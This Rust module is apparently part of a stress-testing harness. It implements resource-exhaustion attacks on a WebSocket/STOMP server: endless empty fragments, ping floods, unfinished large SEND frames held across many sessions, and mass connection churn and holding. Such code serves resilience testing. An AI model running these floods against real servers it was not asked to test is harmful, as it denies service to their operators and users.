//! Attacks by WebSocket itself, and by connections that are dropped.

use tokio::io::AsyncWriteExt as _;

use tokio::task::JoinSet;
use tokio::time::sleep;

use super::{Attacker, COUNTS, Outcome, PATIENCE, SESSIONS, drain, repeat};

/// A message in empty fragments without end.
pub(super) async fn fragments(attacker: &mut Attacker) -> Outcome<()> {
    let mut session = attacker.connected().await?;
    session.stream.write_all(&[0x01, 0x80, 0, 0, 0, 0]).await?;
    let empty: Vec<u8> = [0x00, 0x80, 0, 0, 0, 0].repeat(500);
    repeat(session.stream, &empty, None).await
}

/// Pings as fast as the socket accepts them.
pub(super) async fn pings(attacker: &mut Attacker) -> Outcome<()> {
    let session = attacker.connected().await?;
    let mut ping = vec![0x89, 0x80 | 125, 0, 0, 0, 0];
    ping.resize(6 + 125, b'x');
    repeat(session.stream, &ping.repeat(20), None).await
}

/// A SEND of 60,000 bytes in one message, all but the last byte, in each session of a visitor.
pub(super) async fn unfinished(attacker: &mut Attacker) -> Outcome<()> {
    let mut bytes = vec![0x82, 0x80 | 126];
    bytes.extend_from_slice(&60_000_u16.to_be_bytes());
    bytes.extend_from_slice(&[0; 4]);
    bytes.extend_from_slice(b"SEND\ndestination:/topic/x\n\n");
    bytes.resize(4 + 4 + 59_999, b'x');
    let mut held = JoinSet::new();
    for _ in 0..SESSIONS {
        let mut session = attacker.connected().await?;
        session.stream.write_all(&bytes).await?;
        held.spawn_local(drain(session.stream));
    }
    while held.join_next().await.is_some() {}
    Ok(())
}

/// Connects and drops the connection.
pub(super) async fn coming_and_going(attacker: &mut Attacker) -> Outcome<()> {
    drop(attacker.connected().await?);
    Ok(())
}

/// Sessions of one visitor that are held until they are closed. Thousands try at once, so that each of them waits long
/// before they try again.
pub(super) async fn held(attacker: &mut Attacker) -> Outcome<()> {
    if let Err(refused) = attacker.connected().await {
        sleep(PATIENCE / 2).await;
        return Err(refused);
    }
    let mut held = JoinSet::new();
    for _ in 0..SESSIONS {
        let mut attacker = attacker.clone();
        held.spawn_local(async move {
            loop {
                match attacker.connected().await {
                    Ok(session) => {
                        let _closed = drain(session.stream).await;
                    }
                    Err(_refused) => {
                        COUNTS.refused.add(1);
                    }
                }
                sleep(PATIENCE / 2).await;
            }
        });
    }
    match held.join_next().await {
        Some(ended) => ended?,
        None => Ok(()),
    }
}
